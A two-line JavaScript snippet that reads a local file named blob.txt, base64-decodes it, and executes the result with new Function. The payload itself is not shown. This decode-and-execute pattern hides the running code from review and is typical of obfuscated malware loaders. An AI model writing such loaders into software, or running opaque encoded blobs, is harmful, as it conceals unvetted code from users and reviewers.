const blob = require("fs").readFileSync("blob.txt", "utf8");
new Function(atob(blob))();
